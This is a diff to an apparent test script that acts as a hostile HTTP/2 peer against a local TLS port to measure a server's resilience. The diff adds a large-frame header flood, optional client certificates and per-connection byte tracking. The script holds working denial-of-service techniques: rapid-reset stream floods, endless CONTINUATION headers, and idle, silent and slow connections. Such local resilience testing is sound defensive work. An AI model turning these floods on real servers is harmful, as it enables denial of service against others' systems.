@@ -1,9 +1,11 @@
 #!/usr/bin/env -S python3 -B
-"""attack.py KIND PORT SOURCE SECONDS: what a hostile peer does to a TLS port of this machine, from
-the loopback address SOURCE, for so long; then a line of JSON that says how far it came.
+"""attack.py KIND PORT SOURCE SECONDS [CERTIFICATE KEY]: what a hostile peer does to a TLS port of
+this machine, from the loopback address SOURCE, for so long, with the certificate of these files if
+it has one; then a line of JSON that says how far it came.
 
 KIND: rapid-reset      opens HTTP/2 streams and resets each at once, as fast as it can
       endless-header   one header that never ends, in CONTINUATION frames
+      large-header     the same, in frames of the largest size
       idle             500 connections through the handshake that then say nothing
       silent           500 connections that never begin the handshake
       slow             40 connections that send HTTP/2's preface a byte every 100 ms
@@ -41,17 +43,23 @@ REQUEST = (b"\x83\x87" + b"\x04" + text(b"/spoke.v1.EnrollService/Enroll") + b"\
 class Peer:
     """One connection after the other, from one address."""
 
-    def __init__(self, port, source):
+    def __init__(self, port, source, identity):
         self.port, self.source = port, source
         self.connected = self.refused = self.cut = self.sent = self.done = 0
+        self.most = self.of_this = 0  # The most that one connection has sent, and the present one.
         self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
         self.context.check_hostname = False
         self.context.verify_mode = ssl.CERT_NONE
         self.context.set_alpn_protocols(["h2"])
+        if identity:
+            self.context.load_cert_chain(*identity)
 
     def connect(self):
         plain = socket.create_connection(("127.0.0.1", self.port), 2, (self.source, 0))
+        # What it has sent is what has arrived, but for this.
+        plain.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 10)
         self.connected += 1
+        self.of_this = 0
         return plain
 
     def secure(self):
@@ -67,6 +75,8 @@ class Peer:
             raise TimeoutError("enough")
         to.sendall(data)
         self.sent += len(data)
+        self.of_this += len(data)
+        self.most = max(self.most, self.of_this)
 
 
 def rapid_reset(peer, until):
@@ -81,11 +91,11 @@ def rapid_reset(peer, until):
         peer.done += 64
 
 
-def endless_header(peer, until):
+def endless_header(peer, until, size=4096):
     tls = peer.greet()
     # A value of 2^28 bytes and more, of which each frame brings some.
     peer.send(tls, frame(HEADERS, 0, 1, REQUEST + b"\x00" + text(b"x") + b"\x7f\xff\xff\xff\x7f"))
-    piece = frame(CONTINUATION, 0, 1, b"y" * 4096)
+    piece = frame(CONTINUATION, 0, 1, b"y" * size)
     while time.monotonic() < until:
         peer.send(tls, piece)
         peer.done += 1
@@ -131,9 +141,10 @@ def hold(open_one, peer, until):
 
 def main():
     kind, port, source, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
-    peer = Peer(port, source)
+    peer = Peer(port, source, sys.argv[5:7])
     until = time.monotonic() + seconds
     attack = {"rapid-reset": rapid_reset, "endless-header": endless_header, "slow": slow,
+              "large-header": lambda p, u: endless_header(p, u, 16384),
               "idle": lambda p, u: hold(p.greet, p, u),
               "silent": lambda p, u: hold(p.connect, p, u)}[kind]
     while time.monotonic() < until and peer.sent <= MOST_BYTES:
@@ -143,7 +154,7 @@ def main():
             peer.cut += 1
             time.sleep(0.005)
     print(json.dumps({"connected": peer.connected, "refused": peer.refused, "cut": peer.cut,
-                      "sent_bytes": peer.sent, "done": peer.done}))
+                      "sent_bytes": peer.sent, "most_of_one": peer.most, "done": peer.done}))
 
 
 main()
